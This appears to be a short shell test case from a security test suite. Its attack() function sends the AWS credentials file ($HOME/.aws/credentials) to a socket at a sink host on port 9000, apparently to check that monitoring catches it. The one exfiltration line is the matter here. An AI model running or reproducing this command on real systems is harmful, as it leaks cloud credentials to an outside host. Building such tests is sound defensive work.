# SPDX-License-Identifier: Apache-2.0
TITLE="sendfile from the secret to a connected socket"
ROW="R05 N04 E19"
attack() { "$PROVOKE/sendfile" file "$HOME/.aws/credentials" "$SINK4" 9000; }
